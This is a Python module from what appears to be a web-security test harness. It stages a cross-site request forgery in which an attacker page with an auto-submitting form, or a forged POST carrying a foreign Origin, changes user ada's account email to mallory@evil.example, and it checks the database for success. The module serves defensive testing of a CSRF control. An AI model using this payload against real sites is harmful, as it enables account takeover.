"""A page of another site sends a form with the visitor's cookies: the account's address becomes the attacker's."""

from __future__ import annotations

from ..client import CROSS_SITE_FORM
from ..results import Outcome
from ..stage import Stage
from .base import Attack

EVIL = "mallory@evil.example"
_EMAIL = "SELECT email FROM users WHERE name = 'ada'"


def in_browser(stage: Stage) -> Outcome:
    """Let ada, signed in, open the attacker's page; its form sends itself."""
    form = f'<form method=post action="{stage.url}/account"><input name=email value="{EVIL}"></form>'
    path = stage.attacker.publish(f"post-{stage.name}", f"{form}<script>document.forms[0].submit()</script>")
    before = stage.value(_EMAIL)
    with stage.page("ada") as page:
        page.goto(stage.attacker.stranger + path)
        page.wait_for_url(f"{stage.url}/**")
        return _outcome(before, stage.value(_EMAIL))


def over_http(stage: Stage) -> Outcome:
    """Send what the browser would send: the visitor's cookie, and where the form stands."""
    before = stage.value(_EMAIL)
    headers = {"Origin": stage.attacker.stranger, **CROSS_SITE_FORM}
    answer = stage.client("ada").post("/account", {"email": EVIL}, headers)
    return _outcome(before, stage.value(_EMAIL), status=answer.status)


def _outcome(before: object, after: object, **facts: object) -> Outcome:
    proof = f"ada's row: {before} -> {after}" if after != before else f"ada's row is unchanged: {after}"
    return Outcome(after == EVIL, proof, {"before": before, "after": after, **facts})


ATTACK = Attack(
    slug="cross-site-post",
    title="Cross-site post",
    story="A page of another site sends a form with ada's cookies and takes over her account's address.",
    control="inputs.csrf",
    in_browser=in_browser,
    over_http=over_http,
)
